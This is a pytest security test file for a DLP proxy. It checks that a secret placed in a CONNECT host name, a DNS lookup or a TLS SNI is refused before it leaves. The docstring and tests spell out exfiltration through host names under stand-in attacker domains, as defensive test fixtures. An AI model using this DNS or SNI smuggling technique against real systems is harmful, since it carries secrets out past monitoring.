"""Held attack: a secret in the name a tunnel or a lookup is opened for, refused before it leaves.

- `CONNECT <key>.attacker.example:443`: mitmproxy connects (and looks the name up) when the tunnel
  opens, before any request inside it; the DLP scan read only those requests, so the key's DNS lookup
  left, and an enforce-mode BLOCK never applied.
- With `network.block_private_resolved: true`, failcore itself looks a target's name up (to refuse
  inward addresses) before the DLP scan of the request: its own lookup carried the key out.
- A CONNECT to an allowed host, then a TLS ClientHello whose SNI holds the key: mitmproxy passes the
  SNI on to the upstream's handshake.

HTTP clients lower-case host names, and an AWS key id only matches in upper case: both spellings."""

from __future__ import annotations

import socket
import ssl
from pathlib import Path

import pytest

from tests.helpers import network_events, read_tape
from tests.security.helpers import read_head, send_raw
from tests.security.upstream import LoggingUpstream

KEY = "AKIAIOSFODNN7EXAMPLQ"  # gitleaks' aws-access-key-id shape, not a real key

ENFORCE = """
version: 1
mode: enforce
default: ALLOW
dlp:
  severity_actions: {critical: BLOCK, high: BLOCK}
"""
RESOLVING = ENFORCE + "network:\n  block_private_resolved: true\n"


def _tape_bytes(tape: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(tape.glob("seg-*.jsonl")))


def _no_key_in(data: bytes) -> bool:
    return KEY.encode() not in data.upper()


@pytest.mark.parametrize("key", [KEY, KEY.lower()])
def test_a_connect_to_a_secret_host_is_refused_before_the_tunnel_opens(
    start_proxy, policy_file, tmp_path: Path, key: str
) -> None:
    proxy = start_proxy(policy_file(ENFORCE))
    authority = f"{key}.attacker.invalid:443"
    answer = send_raw(proxy.port, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    proxy.flush()
    # failcore's refusal, not a 502 from a connection attempt whose lookup carried the key out.
    assert answer.startswith(b"HTTP/1.1 403"), answer[:300]
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))
    (event,) = network_events(read_tape(tmp_path / "tape"))
    assert (event["action"], event["decision"]) == ("http.connect", "BLOCK")
    assert "aws-access-key-id" in (event["rule"] or "") and "at CONNECT host" in event["reason"]


def test_failcores_own_lookup_never_carries_a_secret(
    start_proxy, policy_file, tmp_path: Path, monkeypatch
) -> None:
    import failcore.proxy.resolved as resolved

    looked_up: list[str] = []
    real = resolved.inward_address

    async def logging_lookup(host: str, port: int) -> str | None:
        looked_up.append(host)
        return await real(host, port)

    monkeypatch.setattr(resolved, "inward_address", logging_lookup)
    proxy = start_proxy(policy_file(RESOLVING))
    host = f"{KEY.lower()}.attacker.invalid"
    plain = send_raw(proxy.port, f"GET http://{host}/x HTTP/1.1\r\nHost: benign.example\r\n\r\n".encode())
    tunnel = send_raw(proxy.port, f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    control = send_raw(proxy.port, b"GET http://clean.invalid/x HTTP/1.1\r\nHost: clean.invalid\r\n\r\n")
    proxy.flush()
    assert plain.startswith(b"HTTP/1.1 403") and tunnel.startswith(b"HTTP/1.1 403"), (plain, tunnel)
    assert not control.startswith(b"HTTP/1.1 403"), control
    # The control shows the lookup is watched: it was asked about the clean name only.
    assert looked_up == ["clean.invalid"], looked_up
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))


def test_a_secret_in_the_sni_never_reaches_the_upstream(
    start_proxy, policy_file, logging_upstream: LoggingUpstream, tmp_path: Path
) -> None:
    proxy = start_proxy(policy_file(ENFORCE), upstream_ca=logging_upstream.ca_path)
    authority = f"localhost:{logging_upstream.port}"
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as raw:
        raw.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        assert read_head(raw).startswith(b"HTTP/1.1 200")
        context = ssl.create_default_context(cafile=str(proxy.ca_cert))
        context.check_hostname = False
        context.set_alpn_protocols(["http/1.1"])
        with context.wrap_socket(raw, server_hostname=f"{KEY.lower()}.attacker.example") as tls:
            tls.sendall(f"GET /sni HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n".encode())
            answer = read_head(tls)
    proxy.flush()
    assert answer.startswith(b"HTTP/1.1 403"), answer
    assert all(_no_key_in(sni.encode()) for sni in logging_upstream.snis()), logging_upstream.snis()
    assert b"/sni" not in logging_upstream.received_bytes()
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))
    (event,) = network_events(read_tape(tmp_path / "tape"))
    assert event["decision"] == "BLOCK" and "aws-access-key-id" in (event["rule"] or "")
    assert "at TLS SNI" in event["reason"], event["reason"]
